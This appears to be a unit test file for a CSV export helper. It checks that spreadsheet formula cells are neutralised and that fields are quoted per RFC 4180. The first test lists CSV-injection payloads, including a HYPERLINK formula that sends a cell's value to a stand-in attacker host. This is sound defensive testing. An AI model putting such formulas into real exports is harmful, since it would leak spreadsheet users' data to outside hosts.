import { describe, expect, it } from 'vitest'
import { csvField, csvRecord, toCsv } from '../../../../src/shared/text/csv'

describe('csvField', () => {
  it('neutralises every cell a spreadsheet would evaluate', () => {
    for (const cell of [
      '=1+1',
      '+SUM(A1)',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '=HYPERLINK("https://evil.example/?"&A1,"open")',
    ]) {
      const field = csvField(cell)
      const unquoted = field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field
      expect(unquoted).toBe(`'${cell}`)
    }
  })

  it('quotes commas, quotes and line breaks as RFC 4180 says', () => {
    expect(csvField('Smith, Jane')).toBe('"Smith, Jane"')
    expect(csvField('say "hi"')).toBe('"say ""hi"""')
    expect(csvField('two\nlines')).toBe('"two\nlines"')
    expect(csvField('cr\rhere')).toBe('"cr\rhere"')
    expect(csvField('=1,2')).toBe(`"'=1,2"`)
  })

  it('writes our own numbers and booleans as they are, and blanks for nothing', () => {
    expect(csvField(-3)).toBe('-3')
    expect(csvField(0.5)).toBe('0.5')
    expect(csvField(true)).toBe('true')
    expect(csvField(Number.NaN)).toBe('')
    expect(csvField(null)).toBe('')
    expect(csvField(undefined)).toBe('')
    expect(csvField('plain')).toBe('plain')
    expect(csvField('a=b')).toBe('a=b')
  })
})

describe('toCsv', () => {
  it('writes a header and CRLF-ended records', () => {
    expect(csvRecord(['a', 1])).toBe('a,1\r\n')
    expect(
      toCsv(
        ['upn', 'count'],
        [
          ['alice@corp.example', 2],
          ['@evil', -1],
        ],
      ),
    ).toBe("upn,count\r\nalice@corp.example,2\r\n'@evil,-1\r\n")
  })
})
